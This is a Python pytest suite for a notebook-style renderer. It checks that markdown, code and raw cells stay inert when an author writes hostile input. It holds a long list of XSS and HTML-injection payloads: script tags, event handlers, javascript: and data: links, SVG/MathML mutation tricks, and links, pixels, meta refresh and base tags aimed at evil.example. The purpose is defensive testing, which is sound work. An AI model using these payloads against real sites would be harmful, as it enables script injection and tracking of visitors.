"""What an author may write to attack a reader does nothing."""

import html as entities
import string

import pytest
from gallery.lib.rendering import CellSource, place
from gallery.lib.rendering.fragments import render_cell
from hypothesis import given, settings
from hypothesis import strategies as st

from server.tests.lib.rendering.inert import assert_inert, parsed

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in a paragraph": "a <script src=//evil.example/x.js></script> b",
    "script in capitals": "<ScRiPt>alert(1)</sCrIpT>",
    "script nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script unclosed": "<script>alert(1)",
    "script split by a comment": "<script><!--</script><script>alert(1)//--></script>",
    "handler": '<p onclick="alert(1)">x</p>',
    "handler on an image": "<img src=x onerror=alert(1)>",
    "handler without quotes": "<b onmouseover=alert(1)//>x</b>",
    "handler after a slash": "<img/src=x/onerror=alert(1)>",
    "handler on details": '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    "body onload": "<body onload=alert(1)>",
    "focus": '<a autofocus tabindex=1 onfocus=alert(1) href="https://a.example">x</a>',
    "svg": "<svg onload=alert(1)><circle r=1></svg>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg animate": '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>',
    "svg use": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
    "svg foreignObject": "<svg><foreignObject>"
    "<iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "math link": '<math><mtext href="javascript:alert(1)">x</mtext></math>',
    "math action": '<math><maction actiontype="statusline#http://e.example" '
    'xlink:href="javascript:alert(1)">x</maction></math>',
    "math annotation": '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    "javascript link": "[x](javascript:alert(1))",
    "javascript link in capitals": "[x](JaVaScRiPt:alert(1))",
    "javascript link with entities": "[x](&#106;avascript&colon;alert&lpar;1&rpar;)",
    "javascript link with a tab": '<a href="java\tscript:alert(1)">x</a>',
    "javascript link with a line feed": '<a href="java\nscript:alert(1)">x</a>',
    "javascript link after a control character": '<a href="\x01javascript:alert(1)">x</a>',
    "javascript link after a blank": '<a href=" javascript:alert(1)">x</a>',
    "javascript link as a reference": "[x]\n\n[x]: javascript:alert(1)",
    "javascript link as an autolink": "<javascript:alert(1)>",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript link": "[x](vbscript:msgbox(1))",
    "file link": "[x](file:///etc/passwd)",
    "blob link": '<a href="blob:https://a.example/1">x</a>',
    "link to another host without a scheme": "[x](//evil.example/)",
    "link with target": '<a href="https://a.example" target="_blank" rel="opener" ping="https://b.example">x</a>',
    "link to download": '<a href="https://a.example" download>x</a>',
    "relative link": "[x](/account/sign-out)",
    "link to a foreign anchor": "[x](#site-header)",
    "image from elsewhere": "![x](https://evil.example/pixel.png)",
    "image from a protocol-relative address": "![x](//evil.example/pixel.png)",
    "image as data": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "image with srcset": '<img srcset="https://evil.example/p.png 1x" src="x">',
    "image description breaking out": '![" onerror="alert(1)](https://a.example/x.png)',
    "image title breaking out": "![x](https://a.example/x.png '\" onload=\"alert(1)')",
    "picture": '<picture><source srcset="https://evil.example/p.png"><img src=x></picture>',
    "video": '<video src="https://evil.example/v" poster="https://evil.example/p"></video>',
    "audio": '<audio autoplay src="https://evil.example/a"></audio>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "link to a style sheet": '<link rel="stylesheet" href="https://evil.example/s.css">',
    "style": "<style>@import 'https://evil.example/s.css'; body{display:none}</style>",
    "style attribute": '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
    "style on a table cell": '<table><tr><td style="text-align: right;position:fixed">x</td></tr></table>',
    "spans beyond measure": '<table><td colspan="99999999" rowspan="1 x">x</td></table><ol start="1x"><li>y</ol>',
    "form": '<form action="https://evil.example"><input name=password>'
    '<button formaction="javascript:alert(1)">go</button></form>',
    "input of text": '<input type="text" value="x" autofocus onfocus=alert(1)>',
    "input as an image": '<input type="image" src="https://evil.example/p.png">',
    "task box with a handler": '<input type="checkbox" onclick="alert(1)" form="f" name="n">',
    "textarea": "<textarea><script>alert(1)</script></textarea>",
    "select": "<select><option><script>alert(1)</script></select>",
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe with a document": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "applet": "<applet code=x></applet>",
    "frameset": '<frameset><frame src="javascript:alert(1)"></frameset>',
    "portal": '<portal src="https://evil.example"></portal>',
    "template": "<template><script>alert(1)</script></template>",
    "template tags": "{% load static %}{{ request.user }}{% include 'x' %}{# #}",
    "custom element": '<x-widget onconnected="alert(1)" is="x">x</x-widget>',
    "id": '<p id="site-header">x</p>',
    "id of a heading": '<h1 id="cell-1-h1">x</h1>',
    "name": '<a name="csrfmiddlewaretoken">x</a>',
    "class": '<p class="modal show alert-danger">x</p>',
    "data attribute": '<p data-hx-get="/account/delete" hx-trigger="load" hx-get="/x">x</p>',
    "aria and role": '<div role="dialog" aria-modal="true">x</div>',
    "heading attributes": "# x {#site-header .modal onclick=alert(1)}",
    "language of a fence": '```"><script>alert(1)</script>\nx\n```',
    "language of a fence as a class": "```modal-backdrop\nx\n```",
    "end of a block in code": "```\n</code></pre><script>alert(1)</script>\n```",
    "end of a block in code span": "`</code><script>alert(1)</script>`",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?php echo 1 ?><?xml-stylesheet href='x'?>",
    "doctype": "<!DOCTYPE html [<!ENTITY x 'y'>]><p>&x;</p>",
    "comment": "<!-- <script>alert(1)</script> -->x",
    "comment that ends early": "<!--><img src=x onerror=alert(1)>-->",
    "comment that ends oddly": "<!-- --!><img src=x onerror=alert(1)> -->",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "title": "<title><img src=x onerror=alert(1)></title>",
    "xmp": "<xmp><script>alert(1)</script></xmp>",
    "plaintext": "<plaintext><script>alert(1)</script>",
    "noembed": "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "mutation through math and table": "<math><mtext><table><mglyph><style>"
    "<img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "mutation through svg and style": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "mutation through form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mutation through select": "<svg><select><style><img src=x onerror=alert(1)></style></select></svg>",
    "mutation through an attribute": '<p title="</p><img src=x onerror=alert(1)>">x</p>',
    "mutation through a backtick": '<abbr title="``onmouseover=alert(1)">x</abbr>',
    "table out of order": "<table><td><a href='https://a.example'><table><td><a href='https://b.example'>x",
    "links nested": "<a href='https://a.example'>[x](https://b.example)</a>",
    "formatting misnested": "<b><i><p>x</b></i>" * 20,
    "unclosed block before code": "<div><p>\n\n```\nx\n```\n\n",
    "formula with a script": r"$\text{<script>alert(1)</script>}$",
    "formula with a link": r"$\href{javascript:alert(1)}{x}$ $\url{javascript:alert(1)}$",
    "formula with data": r"$\htmlData{onclick=alert(1)}{x}$ $\htmlId{site-header}{x}$ "
    r"$\htmlClass{modal}{x}$ $\htmlStyle{position:fixed}{x}$",
    "formula with an image": r"$\includegraphics{https://evil.example/p.png}$",
    "formula with MathJax's extensions": r"$\class{modal}{x}\cssId{site-header}{x}\style{color:red}{x}\require{html}$",
    "formula with a label": r"$$\begin{align} a \label{site-header} \\ b "
    r"\tag{<b onclick=alert(1)>} \end{align}$$ $\ref{site-header}$",
    "formula with a colour": r"$\color{red;background:url(https://evil.example)}x \textcolor{#ff0000}{y}$",
    "formula with markup": "$<img src=x onerror=alert(1)>$ $$</math><script>alert(1)</script>$$",
    "formula with entities": "$&lt;script&gt;alert(1)&lt;/script&gt;$",
    "formula that cannot be typeset": r"$\undefined<img src=x onerror=alert(1)>$",
    "formula in an attribute": '<abbr title="$" onclick=alert(1) x="$">x</abbr> '
    '<abbr title=\'$a"b onclick=alert(1) c$\'>x</abbr>',
    "formula in a link": '[x](https://a.example/?$"onclick=alert(1)$)',
    "formula as a scheme": "[x]($java$script:alert(1)) [y](\\\\(java\\\\)script:alert(1))",
    "formula in an image description": '![$" onerror="alert(1)$](https://a.example/x.png)',
    "formula within raw text": "<textarea>$x$</textarea><style>$x$</style><title>$x$</title>",
    "formula with hidden characters in an attribute": '<abbr title="$\u202ex$">y</abbr>',
    "formula that opens in one element and ends in another": "<b>$x</b><script>$alert(1)</script>",
    "place marker in text": '<h2 id="cell-@-h1">x</h2> `<h2 id="cell-@-h9">` "cell-@-fn1"',
    "section marker": "[x](#@\"onclick=alert(1)) [y](#%22%3E%3Cscript%3E)",
    "footnote": '[^"><script>alert(1)</script>] x\n\n[^"><script>alert(1)</script>]: <b onclick=alert(1)>y</b>',
    "footnote as an id": '[^site]\n\n[^site]: x\n\n<div id="site">y</div><p id="site">z</p>',
    "control characters": "a\x00b\x01c\x0bd\x1be\x7ff &#1; &#x202e; &#0; x",
    "hidden characters": "pay\u202egnp.exe\u2066 zero\u200bwidth \ufeff tag\U000e0041",
    "half a character": "a\ud800b",
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("kind", ["markdown", "code", "raw"])
def test_nothing_active_is_left(name: str, kind: str) -> None:
    html = render_cell(CellSource(kind, HOSTILE[name], "python"))
    assert_inert(html)
    assert_inert(place(html, 7))


@pytest.mark.parametrize(
    "before", ["> ", "- ", "1. ", "## ", "| a |\n|---|\n| ", "<div>\n\n", "<table><tr><td>", "[^1]\n\n[^1]: "]
)
def test_nothing_active_is_left_inside_of_other_blocks(before: str) -> None:
    for source in HOSTILE.values():
        assert_inert(render_cell(CellSource("markdown", before + source, "")))


def test_all_of_it_together_is_inert() -> None:
    assert_inert(render_cell(CellSource("markdown", "\n\n".join(HOSTILE.values()), "")))
    for first in HOSTILE.values():
        assert_inert(render_cell(CellSource("markdown", " ".join([first, *list(HOSTILE.values())[::9]]), "")))


def test_the_check_itself_finds_what_is_active() -> None:
    for active in (
        "<script>1</script>", "<p onclick=x>", '<a href="javascript:x">', "<img src=x>", '<p id="x">', '<p style="x">',
        "<math><mi href=x>", '<span class="modal">', "<meta charset=x>", "<input>", "<svg></svg>",
    ):  # fmt: skip
        with pytest.raises(AssertionError):
            assert_inert(active)


def test_tokens_of_another_call_are_only_text() -> None:
    guesses = "".join(f"{letters}m0z {letters}c0z " for letters in ("abcdefghijklmnop", "a" * 16))
    body = parsed(render_cell(CellSource("markdown", f"{guesses} $x$\n\n```\ncode\n```", "")))
    assert body.text().startswith("abcdefghijklmnopm0z abcdefghijklmnopc0z")
    assert len(body.css("math")) == 1
    assert len(body.css("pre")) == 1


def test_code_of_any_language_shows_exactly_its_source() -> None:
    for source in HOSTILE.values():
        if source.isascii() and source.isprintable():
            html = render_cell(CellSource("code", source, "python"))
            assert entities.unescape(parsed(html).css("code")[0].text()) == entities.unescape(source)


PIECES = st.sampled_from(
    [
        *"`*_$[]()<>!#|&\\\n\t\"'-+~:=/ ",
        *("$$", "```", "\n\n", "    ", "<b>", "</b>", "<a href='https://a.example'>", "</a>", "<img src=x alt='"),
        *("<table>", "<td>", "</table>", "<math>", "<svg>", "<style>", "</style>", "<!--", "-->", "<h1>", "<details>"),
        *(
            "\\begin{align}",
            "\\end{align}",
            "\\\\(",
            "\\\\)",
            "[^1]",
            "[^1]: ",
            "- [x] ",
            "| a |\n|---|\n",
            "&lt;",
            "&#1;",
        ),
        *("\u202e", "\u200b", "word", "é", "x^2", "\\frac{a}{b}", "cell-@-h1", "#@x", "javascript:", "onclick=x"),
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=40).map("".join))
def test_random_markdown_is_inert(source: str) -> None:
    assert_inert(render_cell(CellSource("markdown", source, "")))


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=200) | st.text(string.printable, max_size=200))
def test_random_text_is_inert_and_rendered_the_same_each_time(source: str) -> None:
    for kind in ("markdown", "code", "raw"):
        cell = CellSource(kind, source, "python")
        assert_inert(first := render_cell(cell))
        assert render_cell(cell) == first
